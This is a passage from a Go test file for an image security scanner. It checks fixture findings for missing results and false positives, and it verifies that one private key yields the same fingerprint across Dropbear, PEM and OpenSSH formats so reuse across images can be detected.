			for _, w := range fx.want {
				if has(probs, w) == nil {
					t.Errorf("missing %s %s (>= %s, %q)", w.cat, w.path, w.minSev, w.detail)
				}
				c := counts[w.cat]
				c[0]++
				counts[w.cat] = c
			}
			for _, r := range fx.reject {
				min := r.minSev
				if min == "" {
					min = SeverityLow
				}
				if p := has(probs, want{r.cat, r.path, min, r.detail}); p != nil {
					t.Errorf("false positive %+v", *p)
				}
				c := counts[r.cat]
				c[1]++
				counts[r.cat] = c
			}
		})
	}
	for cat, c := range counts {
		t.Logf("fixture checks %-24s positives %2d negatives %2d", cat, c[0], c[1])
	}
}

// TestKeyReuseFingerprint checks that one key yields one fingerprint in
// every format, so reuse across images is visible.
func TestKeyReuseFingerprint(t *testing.T) {
	k := testKeys()
	p8, _ := x509.MarshalPKCS8PrivateKey(k.ed)
	a := FindKeys([]byte(dropbearEd25519(k.ed)))
	b := FindKeys([]byte(pemString("PRIVATE KEY", p8)))
	c := FindKeys([]byte(openSSHKey(t, k.ed)))
	if len(a) != 1 || len(b) != 1 || len(c) != 1 {
		t.Fatalf("keys: %v %v %v", a, b, c)
	}
	if a[0].Fingerprint == "" || a[0].Fingerprint != b[0].Fingerprint || b[0].Fingerprint != c[0].Fingerprint {
		t.Errorf("fingerprints differ: %s %s %s", a[0].Fingerprint, b[0].Fingerprint, c[0].Fingerprint)
	}
	r1 := FindKeys([]byte(dropbearRSA(k.rsa1024)))
	r2 := FindKeys([]byte(pemString("RSA PRIVATE KEY", x509.MarshalPKCS1PrivateKey(k.rsa1024))))
	if len(r1) != 1 || len(r2) != 1 || r1[0].Fingerprint != r2[0].Fingerprint || r1[0].Bits != 1024 {
		t.Errorf("rsa: %+v %+v", r1, r2)
	}
}
